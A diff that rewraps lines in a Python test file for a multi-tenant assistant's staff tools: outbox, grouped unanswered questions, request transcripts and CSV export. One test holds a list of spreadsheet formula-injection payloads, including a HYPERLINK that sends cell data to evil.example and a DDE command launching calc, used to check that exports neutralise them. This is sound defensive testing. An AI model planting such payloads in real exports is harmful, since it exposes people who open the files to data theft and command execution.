@@ -1,4 +1,5 @@
 """What staff see: requests, outbox, ledger, unanswered questions, feedback, from Python and the CLI."""
+
 import csv
 import io
 import json
@@ -65,7 +66,9 @@ def test_the_outbox_prints_one_line_an_email_and_one_email_whole(fresh, converse
     header, *lines = listed.stdout.splitlines()
     assert header.split() == ["id", "created", "reference", "tenant", "recipient", "subject", "body"]
     assert [line.split()[0] for line in lines] == [str(mail["id"]) for mail in mails]
-    assert all(line.endswith("…") for line in lines) and lines[-1].endswith("Bonjour, ↵ Nous avons bien reçu votre demande (…")
+    assert all(line.endswith("…") for line in lines) and lines[-1].endswith(
+        "Bonjour, ↵ Nous avons bien reçu votre demande (…"
+    )
     assert "assistant outbox show ID" in listed.stderr
     visitor = mails[-1]
     whole = runner.invoke(cli, ["outbox", "show", str(visitor["id"])])
@@ -87,6 +90,7 @@ def test_a_table_cell_is_one_line_and_says_when_it_is_cut():
 
 # -- unanswered questions, grouped as they arrive ---------------------------------------------------
 
+
 def test_each_unanswered_question_is_linked_to_its_group_as_it_arrives(fresh):
     for message in ("recette de crêpes ?", "une recette de crêpes svp", "qui a gagné le match ?"):
         fresh.reply("exo", None, message)
@@ -104,18 +108,27 @@ def test_a_question_is_compared_with_a_bounded_number_of_recent_groups(fresh, mo
     monkeypatch.setattr(grouping, "CANDIDATES", 3)
     compared = []
     extract = grouping.process.extractOne
-    monkeypatch.setattr(grouping.process, "extractOne", lambda key, choices, **kw: (compared.append(len(choices)),
-                                                                                   extract(key, choices, **kw))[1])
+    monkeypatch.setattr(
+        grouping.process,
+        "extractOne",
+        lambda key, choices, **kw: (compared.append(len(choices)), extract(key, choices, **kw))[1],
+    )
     log = lambda tenant, text: fresh.backoffice.log_unanswered(tenant, "fr", text, [], "s" * 16)  # noqa: E731
     for text in ("recette de crêpes", "horaires de la piscine", "météo de demain", "score du match", "prix du pain"):
         log("exo", text)
-    log("conex", "météo de demain")       # another tenant's groups are not candidates
-    log("exo", "score du match hier")     # among the 3 most recent: joins its group
-    log("exo", "une recette de crêpes")   # seen before the last 3: starts a group of its own
+    log("conex", "météo de demain")  # another tenant's groups are not candidates
+    log("exo", "score du match hier")  # among the 3 most recent: joins its group
+    log("exo", "une recette de crêpes")  # seen before the last 3: starts a group of its own
     assert max(compared) == 3
     counts = {g["question"]: g["count"] for g in staff.unanswered(fresh.store, "exo")}
-    assert counts == {"score du match": 2, "recette de crêpes": 1, "une recette de crêpes": 1,
-                      "horaires de la piscine": 1, "météo de demain": 1, "prix du pain": 1}
+    assert counts == {
+        "score du match": 2,
+        "recette de crêpes": 1,
+        "une recette de crêpes": 1,
+        "horaires de la piscine": 1,
+        "météo de demain": 1,
+        "prix du pain": 1,
+    }
 
 
 def test_a_long_question_is_compared_by_its_first_words_only():
@@ -126,19 +139,31 @@ def test_a_long_question_is_compared_by_its_first_words_only():
 def test_a_database_with_ungrouped_questions_is_grouped_when_opened(tmp_path):
     path = tmp_path / "assistant.db"
     old = sqlite3.connect(path, isolation_level=None)
-    old.execute("create table unanswered (id integer primary key, tenant text, lang text, message text, "
-                "candidates text, reason text, session_id text, created text)")
-    for n, (tenant, message, reason) in enumerate([("exo", "recette de crêpes ?", "fallback"),
-                                                   ("exo", "une recette de crêpes svp", "not_helpful"),
-                                                   ("conex", "recette de crêpes ?", "fallback"),
-                                                   ("exo", "qui a gagné le match ?", "fallback")]):
-        old.execute("insert into unanswered (tenant, lang, message, reason, created) values (?, 'fr', ?, ?, ?)",
-                    [tenant, message, reason, f"2026-01-0{n + 1}T10:00:00+00:00"])
+    old.execute(
+        "create table unanswered (id integer primary key, tenant text, lang text, message text, "
+        "candidates text, reason text, session_id text, created text)"
+    )
+    for n, (tenant, message, reason) in enumerate(
+        [
+            ("exo", "recette de crêpes ?", "fallback"),
+            ("exo", "une recette de crêpes svp", "not_helpful"),
+            ("conex", "recette de crêpes ?", "fallback"),
+            ("exo", "qui a gagné le match ?", "fallback"),
+        ]
+    ):
+        old.execute(
+            "insert into unanswered (tenant, lang, message, reason, created) values (?, 'fr', ?, ?, ?)",
+            [tenant, message, reason, f"2026-01-0{n + 1}T10:00:00+00:00"],
+        )
     old.close()
     store = Store(path)
     assert all(r["group_id"] for r in store.rows("unanswered"))
     [crepes, match] = staff.unanswered(store, "exo")
-    assert (crepes["count"], crepes["reasons"], crepes["last"]) == (2, ["fallback", "not_helpful"], "2026-01-02T10:00:00+00:00")
+    assert (crepes["count"], crepes["reasons"], crepes["last"]) == (
+        2,
+        ["fallback", "not_helpful"],
+        "2026-01-02T10:00:00+00:00",
+    )
     assert match["count"] == 1 and [g["count"] for g in staff.unanswered(store, "conex")] == [1]
     Store(path)  # opening it again groups nothing twice
     assert sum(g["count"] for g in staff.unanswered(store)) == 4
@@ -156,6 +181,7 @@ def test_unanswered_groups_are_paged_most_frequent_then_most_recent_first(fresh)
 
 # -- requests refer to their conversation ------------------------------------------------------------
 
+
 def payload_bytes(store) -> int:
     return store.db.execute("select coalesce(sum(length(payload)), 0) from requests").fetchone()[0]
 
@@ -166,7 +192,9 @@ def test_asking_for_a_person_again_and_again_stores_no_copy_of_the_conversation(
     grown = []
     for chatter in (2, 40):
         before = payload_bytes(fresh.store)
-        converse("exo", *["quelle est votre politique de remboursement ?"] * chatter, *["je veux parler à quelqu'un"] * 5)
+        converse(
+            "exo", *["quelle est votre politique de remboursement ?"] * chatter, *["je veux parler à quelqu'un"] * 5
+        )
         grown.append(payload_bytes(fresh.store) - before)
     assert len(staff.requests(fresh.store, kind="contact")) == 10
     assert grown[1] <= grown[0] + 5 * 3 and grown[1] < 5 * 120  # a few more digits of turn ids, no more
@@ -175,8 +203,9 @@ def test_asking_for_a_person_again_and_again_stores_no_copy_of_the_conversation(
 
 
 def test_a_contact_request_shows_its_conversation_up_to_the_request(fresh, converse):
-    replies = converse("exo", "combien de temps dure l'essai ?", "je veux parler à quelqu'un", "merci",
-                       "je veux parler à quelqu'un")
+    replies = converse(
+        "exo", "combien de temps dure l'essai ?", "je veux parler à quelqu'un", "merci", "je veux parler à quelqu'un"
+    )
     first, second = (r["action"]["reference"] for r in (replies[1], replies[3]))
     shown = staff.request(fresh.store, first)
     assert [t["user"] for t in shown["transcript"]] == ["combien de temps dure l'essai ?", "je veux parler à quelqu'un"]
@@ -195,24 +224,35 @@ def test_a_detail_shows_at_most_the_last_turns_of_a_long_conversation(fresh, con
 
 
 def test_a_request_of_an_earlier_version_shows_the_transcript_it_holds(fresh):
-    fresh.store.insert("requests", {"reference": "CON-OLD", "key": "k", "tenant": "exo", "kind": "contact",
-                                    "status": "submitted", "session_id": "s" * 16, "lang": "fr", "created": "2026-01-01",
-                                    "payload": json.dumps({"transcript": [{"user": "allô", "assistant": ""}]})})
+    fresh.store.insert(
+        "requests",
+        {
+            "reference": "CON-OLD",
+            "key": "k",
+            "tenant": "exo",
+            "kind": "contact",
+            "status": "submitted",
+            "session_id": "s" * 16,
+            "lang": "fr",
+            "created": "2026-01-01",
+            "payload": json.dumps({"transcript": [{"user": "allô", "assistant": ""}]}),
+        },
+    )
     shown = staff.request(fresh.store, "CON-OLD")
     assert shown["transcript"] == [{"user": "allô", "assistant": ""}] and "transcript" not in shown["payload"]
 
 
 def test_a_requests_summary_is_short(fresh):
-    fresh.backoffice.submit(Request("exo", "demo", {"name": "N" * 300, "email": "a@b.example", "company": "C"},
-                                    "s" * 16, "fr", "long-name"))
+    fresh.backoffice.submit(
+        Request("exo", "demo", {"name": "N" * 300, "email": "a@b.example", "company": "C"}, "s" * 16, "fr", "long-name")
+    )
     [row] = staff.requests(fresh.store)
     assert len(row["summary"]) == staff.SUMMARY_LENGTH and row["summary"].endswith("…")
 
 
 # -- the command line: pages and safe CSV -------------------------------------------------------------
 
-HOSTILE = ["=HYPERLINK(\"https://evil.example/?\"&A1, \"clic\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
-           "\t=1", "\r=1"]
+HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1, "clic")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
 
 
 @pytest.fixture
@@ -225,8 +265,11 @@ def cli_store(bundle, tmp_path, monkeypatch):
 def test_csv_exports_neutralise_what_a_spreadsheet_would_run(cli_store):
     for n, text in enumerate(HOSTILE):  # each in a tenant of its own: "\t=1" and "\r=1" would be one group
         cli_store.backoffice.log_unanswered(sorted(cli_store.tenants)[n % 5], "fr", text, [], "s" * 16)
-        cli_store.backoffice.submit(Request("exo", "demo", {"name": text, "email": f"v{n}@exemple.dz", "company": text},
-                                            "s" * 16, "fr", f"key-{n}"))
+        cli_store.backoffice.submit(
+            Request(
+                "exo", "demo", {"name": text, "email": f"v{n}@exemple.dz", "company": text}, "s" * 16, "fr", f"key-{n}"
+            )
+        )
     runner = CliRunner()
     groups = list(csv.DictReader(io.StringIO(runner.invoke(cli, ["unanswered", "--csv"]).stdout)))
     assert sorted(g["question"] for g in groups) == sorted("'" + text for text in HOSTILE)
